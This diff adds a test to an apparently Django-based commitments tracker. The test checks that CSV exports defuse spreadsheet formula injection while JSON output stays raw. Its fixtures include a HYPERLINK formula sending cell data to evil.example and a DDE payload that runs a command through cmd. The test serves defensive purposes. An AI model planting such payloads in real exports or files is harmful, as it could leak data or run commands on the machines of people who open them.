@@ -65,3 +65,44 @@ def test_json_has_commitments_with_their_measurements(client, data):
     assert [m["value"] for m in digital["measurements"]] == ["90.00", "60.00"]
     assert digital["measurements"][0]["superseded"] is True
     assert digital["url"].endswith("/vi/commitments/truong-hoc-so/")
+
+
+def test_csv_text_never_runs_as_a_spreadsheet_formula_and_json_stays_raw(
+    client, make_commitment, measure, official
+):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    c = make_commitment(
+        "@SUM(1+1)",
+        title_en="+cmd|' /C calc'!A0",
+        responsible_office_vi="-2+3",
+        officials=[official],
+    )
+    wrong = measure(c, 10, "2024-12-31", official, note_vi=formula, note_en="\tTab")
+    services.record_measurement(
+        c,
+        official,
+        value=20,
+        valid_on=wrong.valid_on,
+        note_vi="ok",
+        note_en="\rCR",
+        corrects=wrong,
+        correction_reason="=1+1",
+    )
+    rows = list(
+        csv.DictReader(io.StringIO(client.get("/en/commitments/data.csv").content.decode()))
+    )
+    first, second = rows
+    assert first["commitment_title_vi"] == "'@SUM(1+1)"
+    assert first["commitment_title_en"] == "'+cmd|' /C calc'!A0"
+    assert first["responsible_office_vi"] == "'-2+3"
+    assert first["note_vi"] == f"'{formula}"
+    assert first["note_en"] == "'\tTab"
+    assert second["note_en"] == "'\rCR"
+    assert second["correction_reason"] == "'=1+1"
+    assert second["note_vi"] == "ok"
+    assert (first["value"], first["baseline_value"]) == ("10.00", "40.00")  # numbers untouched
+    data = json.loads(client.get("/en/commitments/data.json").content)
+    commitment = data["commitments"][0]
+    assert commitment["title_vi"] == "@SUM(1+1)"
+    assert commitment["measurements"][0]["note_vi"] == formula
+    assert commitment["measurements"][1]["correction_reason"] == "=1+1"
